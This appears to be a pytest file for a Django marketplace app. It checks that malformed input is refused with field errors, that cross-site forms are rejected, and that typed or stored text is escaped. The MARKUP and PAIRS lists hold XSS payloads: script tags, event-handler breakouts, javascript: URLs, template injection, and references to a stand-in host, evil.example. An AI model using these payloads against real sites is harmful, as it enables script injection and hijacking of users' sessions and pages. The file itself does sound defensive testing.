"""What people type by mistake, and what some type on purpose: a sentence beside the field, never a broken page."""

from html import escape
from html.parser import HTMLParser
from typing import Any
from uuid import UUID

import pytest
from django.test import Client
from django.urls import reverse

from dodolan.market.fulfilment.models import Shift, Weighing
from dodolan.market.ordering.models import OrderLine, Purchase
from dodolan.market.paying.boxes import LARGEST_FLOAT_RP
from dodolan.market.prices.models import OfferPrice
from dodolan.market.stalls.models import Offer, Stall
from dodolan.people.accounts.models import RoleName, User
from dodolan.people.businesses.models import Business
from dodolan.people.places.models import PublicMarket
from scripts.every_page import FORMS_ONLY
from tests.factories.days import counted_shift, weighed_order
from tests.factories.market import (
    by_steps,
    make_counted_offer,
    make_day,
    make_offer,
    make_order,
    make_shift,
    make_slot,
    make_stall,
)
from tests.factories.people import make_market, make_user
from tests.factories.routes import address_of, pages
from tests.factories.screens import screen_of

NUMBERS = ["-5", "1,5", "1.5", "abc", "1" + "0" * 18, "5\0", "\u202e12a", "9" * 5000, "0x10", "\u2460", "1e3"]
NAMES = ["", "   ", "\0", "a\0b", "\u200b\u202e", "x" * 81, "y" * 5000]
PHONES = ["", "0", "12", "abc", "0812\0", "+1", "9" * 41, "1" + "0" * 18, "\u202e", "0812 3456"]
Rows = list[tuple[Any, ...]]
STRANGER = str(UUID(int=7))
CODES = ["", "12345", "abcdef", "0\0", "9" * 13, "\u202e000000", "-00001", "1" + "0" * 18]


def in_short(value: object) -> str:
    return ascii(value)[:30]


@pytest.fixture
def runner(market: PublicMarket) -> User:
    """A runner of a market whose day is open."""
    return make_user("Cak Rudi", RoleName.RUNNER, market=market)


def is_refused(response: Any, typed: str) -> None:
    """A 422 page that keeps what was typed and has a sentence beside the field."""
    page = response.content.decode()
    assert response.status_code == 422, in_short(typed)
    assert 'class="errors"' in page or 'class="error"' in page, in_short(typed)
    assert 'aria-invalid="true"' in page, in_short(typed)
    if typed.isprintable() and typed.strip():
        assert escape(typed) in page


def test_a_float_must_be_rupiah(runner: User):
    client = screen_of(runner)
    for typed in ("", *NUMBERS, str(LARGEST_FLOAT_RP + 1)):
        is_refused(client.post(reverse("runner:shift:start"), {"float": typed}), typed)
    assert not Shift.objects.exists()


@pytest.mark.parametrize("typed", ["0", "500000", "Rp 500.000", "\uff15\uff10\uff10"], ids=in_short)
def test_a_float_may_be_written_in_many_ways(runner: User, typed: str):
    assert screen_of(runner).post(reverse("runner:shift:start"), {"float": typed}).status_code == 302
    assert Shift.objects.count() == 1


def test_counted_cash_must_be_rupiah(market: PublicMarket):
    shift = make_shift()
    client = screen_of(shift.runner)
    client.post(reverse("runner:shift:end"))
    for typed in ("", *NUMBERS):
        is_refused(client.post(reverse("runner:cash:show"), {"counted": typed}), typed)
    shift.box.refresh_from_db()
    assert shift.box.counted_at is None


@pytest.mark.parametrize("typed", ["", "abcd", "12\0", "\u202e", "1" * 9, "9" * 5000, "-1", "1,5"], ids=in_short)
def test_a_pin_must_be_the_right_one(db: None, typed: str):
    purchase, shift = weighed_order()
    response = screen_of(shift.runner).post(reverse("runner:stops:show", args=[purchase.number]), {"pin": typed})
    is_refused(response, typed)
    purchase.refresh_from_db()
    assert purchase.delivered_at is None


def test_a_reading_must_be_whole_grams(db: None):
    offer = make_offer(make_stall())
    purchase = make_order(by_steps(offer, 500), by_steps(make_offer(offer.stall, good="Wortel"), 500))
    client = screen_of(make_shift(purchase).runner)
    bad, good = OrderLine.objects.filter(order__purchase=purchase).order_by("pk")
    for typed in (*NUMBERS, "9" * 13):
        response = client.post(reverse("runner:picking:weigh"), {f"g-{bad.pk}": typed, f"g-{good.pk}": "480"})
        is_refused(response, typed)
        assert 'value="480"' in response.content.decode()
    assert not Weighing.objects.exists()


def test_pieces_are_at_most_what_was_ordered(db: None):
    purchase = make_order(by_steps(make_counted_offer(make_stall()), 2))
    client = screen_of(make_shift(purchase).runner)
    line = OrderLine.objects.get(order__purchase=purchase)
    for typed in (*NUMBERS, "3"):
        is_refused(client.post(reverse("runner:picking:take"), {f"n-{line.pk}": typed}), typed)
    line.refresh_from_db()
    assert line.final_rp is None


def test_fields_of_nobody_change_nothing(db: None):
    client = screen_of(make_shift(make_order()).runner)
    for name in ("g-x", "n-", "g-" + "9" * 400, f"g-{STRANGER}", "k-1", "stop"):
        assert client.post(reverse("runner:picking:weigh"), {name: "5"}).status_code in (302, 404), name
        assert client.post(reverse("runner:picking:take"), {name: "5"}).status_code in (302, 404), name
    assert not Weighing.objects.exists()


def test_orders_that_are_not_there_cannot_be_taken(db: None):
    shift = make_shift(day=make_order().day)
    client = screen_of(shift.runner)
    for ticked in ([], [""], ["x"], ["\0"], [STRANGER], [STRANGER] * 600):
        response = client.post(reverse("runner:shift:take"), {"purchase": ticked}, follow=True)
        assert response.status_code in (200, 400), ticked
        assert 'role="alert"' in response.content.decode() or response.status_code == 400, ticked
    assert not shift.assignments.exists()


def test_a_price_must_be_rupiah(market: PublicMarket):
    offer = make_offer(make_stall())
    client = screen_of(offer.stall.business.owner)
    for typed in (*NUMBERS, "0", "99"):
        response = client.post(reverse("trader:prices:list"), {str(offer.pk): typed, "save": ""})
        assert response.status_code == 422, in_short(typed)
        assert 'class="errors"' in response.content.decode(), in_short(typed)
    assert OfferPrice.objects.count() == 1


def test_a_count_must_be_an_amount(market: PublicMarket):
    offer = make_counted_offer(make_stall())
    client = screen_of(offer.stall.business.owner)
    for typed in (*NUMBERS[:1], *NUMBERS[3:]):
        response = client.post(reverse("trader:prices:stock", args=[offer.pk]), {f"c-{offer.pk}": typed}, follow=True)
        assert 'role="alert"' in response.content.decode(), in_short(typed)
    assert not offer.stock.filter(on_hand__isnull=False).exists()


def test_a_name_must_be_readable(db: None):
    user = make_user("Bu Ani")
    client = screen_of(user)
    for typed in NAMES:
        is_refused(client.post(reverse("public:account:show"), {"name": typed}), typed)
    user.refresh_from_db()
    assert user.name == "Bu Ani"


@pytest.mark.parametrize("typed", PHONES, ids=in_short)
def test_a_phone_must_be_one(db: None, typed: str):
    is_refused(Client().post(reverse("public:account:sign-in"), {"phone": typed}), typed)


@pytest.mark.parametrize("typed", CODES, ids=in_short)
def test_a_code_must_be_the_right_one(db: None, typed: str):
    client = Client()
    client.post(reverse("public:account:sign-in"), {"phone": "0812 3456 7890"})
    is_refused(client.post(reverse("public:account:enter-code"), {"code": typed}), typed)
    assert "_auth_user_id" not in client.session


@pytest.mark.parametrize("field", ["phone", "password", "totp"])
@pytest.mark.parametrize("typed", ["", "\0", "\u202e", "9" * 5000, "-1"], ids=in_short)
def test_an_officers_words_are_never_told_apart(db: None, field: str, typed: str):
    words = {"phone": "0812 3456 7890", "password": "kunci-contoh-7", "totp": "000000", field: typed}
    response = Client().post(reverse("public:account:officer-sign-in"), words)
    assert response.status_code == 422
    assert "kunci-contoh-7" not in response.content.decode()


@pytest.mark.parametrize("language", ["", "xx", "\0", "id" * 4000, "../id"], ids=in_short)
def test_an_unknown_language_is_no_language(db: None, language: str):
    response = Client().post(reverse("public:account:language"), {"language": language, "next": "/cari/"})
    assert (response.status_code, response["Location"]) == (302, "/cari/")
    assert "bahasa" not in response.cookies


def test_no_form_is_taken_from_another_site(db: None):
    purchase, shift = weighed_order()
    line = OrderLine.objects.select_related("offer__stall").get(order__purchase=purchase)
    words = {"number": purchase.number, "line": line.pk, "order": line.order_id, "offer": line.offer_id}
    client = Client(enforce_csrf_checks=True)
    # Forms are refused before anybody looks who sent them, so one signed-in person speaks for all.
    client.force_login(shift.runner)
    answers = {route.name: client.post(address_of(route, words)).status_code for route in pages()}
    assert {name for name, status in answers.items() if status != 403} <= {"buyer:purchases:list"}
    assert set(answers) >= FORMS_ONLY


MARKUP = r"""
<script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
<body onload=alert(1)>
<iframe src=javascript:alert(1)>
javascript:alert(1)
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
<math><mi xlink:href=javascript:alert(1)>
<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x
<base href=//evil.example/>
<meta http-equiv=refresh content=0;url=//evil.example>
<style>*{background:url(//evil.example)}</style>
<scr<script>ipt>alert(1)</script>
<<SCRIPT SRC=//evil.example/x.js></SCRIPT>
{% debug %}{{ 7|add:7 }}${alert(1)}
]]><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
%3Cscript%3Ealert(1)%3C/script%3E
<a hx-get=//evil.example>x
""".strip().splitlines()
LEADS = {"href", "src", "action", "data", "hx-get", "hx-post", "xlink:href"}
ACTIVE = {"iframe", "object", "embed", "base", "style", "video", "math", "xss", "source"}


class Danger(HTMLParser):
    """Collects what in a page would run or reach out and is not ours."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        facts = dict(attrs)
        reaches_out = any((facts.get(name) or "").startswith(("javascript:", "//")) for name in LEADS)
        runs = any(name.startswith("on") for name in facts)
        # A button of ours may send its form to another page of ours, and nowhere else.
        runs = runs or not str(facts.get("formaction", "/lapak/")).startswith("/lapak/")
        own_script = tag == "script" and not str(facts.get("src", "")).startswith("/static/")
        if tag in ACTIVE or reaches_out or runs or own_script or facts.get("http-equiv"):
            self.found.append(f"<{tag} {facts}>")


# One for each place where words can break out of a page: between tags, out of either kind of quotes, at the start of an
# address, in a comment, a title, a template. Two fit into every field; a page that escapes these escapes them all.
PAIRS = [
    ("javascript:alert(1)", "</title><script>alert(1)</script>"),
    ('" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='"),
    ("{{ 7|add:7 }}", "--><script>alert(1)</script>"),
    ("` onclick=alert(1) `", "<img src=x onerror=alert(1)>"),
]


def dangers(page: str) -> list[str]:
    """What in a page would run or reach out and is not ours."""
    danger = Danger()
    danger.feed(page)
    return danger.found


@pytest.mark.parametrize(("short", "long"), PAIRS)
def test_what_people_write_is_never_markup(db: None, short: str, long: str):
    purchase, shift = weighed_order()
    write_everywhere(short, long)
    for client, address in everywhere(purchase, shift):
        response = client.get(address, follow=True)
        assert response.status_code == 200, address
        assert dangers(response.content.decode()) == [], address


@pytest.mark.parametrize("page", ["<p>{}</p>", '<p title="{}">', "<p title='{}'>", '<a href="{}">', "<!-- {} -->"])
def test_unescaped_they_would_be_seen(page: str):
    assert any(dangers(page.format(word)) for pair in PAIRS for word in pair)


def write_everywhere(short: str, long: str) -> None:
    """Both in every text that people can write, or one where only one has room."""
    markup = f"{short} {long}"
    Purchase.objects.update(buyer_name=markup, street=markup, note=markup)
    OrderLine.objects.update(note=markup, good_name=markup)
    Offer.objects.update(label=long[:60])
    Stall.objects.update(name=markup, place=short)
    Business.objects.update(name=markup)
    User.objects.update(name=markup)


def everywhere(purchase: Purchase, shift: Shift) -> list[tuple[Client, str]]:
    """Who sees those words, and where."""
    line = OrderLine.objects.select_related("offer__stall__business__owner").get(order__purchase=purchase)
    stall = line.offer.stall
    runner, trader = screen_of(shift.runner), screen_of(stall.business.owner)
    office = screen_of(make_user("Bu Rini", RoleName.OFFICER))
    slug = purchase.day.market.slug
    by_guest: Rows = [
        ("buyer:browsing:market", slug),
        ("buyer:browsing:stall", slug, stall.slug),
        ("buyer:browsing:offer", slug, line.offer_id),
        ("buyer:browsing:search",),
        ("buyer:browsing:home",),
    ]
    by_guest += [("buyer:purchases:track", purchase.secret), ("buyer:purchases:receipt", purchase.secret)]
    by_runner: Rows = [
        ("runner:shift:show",),
        ("runner:picking:list",),
        ("runner:picking:print",),
        ("runner:stops:list",),
        ("runner:stops:show", purchase.number),
        ("runner:cash:show",),
        ("public:account:show",),
    ]
    by_trader: Rows = [
        ("trader:orders:list",),
        ("trader:prices:list",),
        ("trader:money:show",),
        ("public:account:show",),
    ]
    by_office: Rows = [
        ("office:today:show",),
        ("office:orders:list",),
        ("office:orders:show", purchase.number),
        ("office:runners:list",),
        ("office:register:list",),
    ]
    by_office += [
        ("office:ledger:list",),
        ("office:trail:list",),
        ("office:register:stall", stall.pk),
        ("office:payouts:list",),
    ]
    looks = ((Client(), by_guest), (runner, by_runner), (trader, by_trader), (office, by_office))
    return [(client, reverse(name, args=args)) for client, rows in looks for name, *args in rows]


def test_markup_that_is_searched_for_or_typed_comes_back_as_text(db: None):
    make_slot(make_day(make_market()))
    counted_shift()
    for markup in MARKUP:
        for response in (
            Client().get(reverse("buyer:browsing:search"), {"q": markup}),
            Client().post(reverse("public:account:sign-in"), {"phone": markup[:40], "next": markup}),
        ):
            assert dangers(response.content.decode()) == []
            assert response.status_code < 500
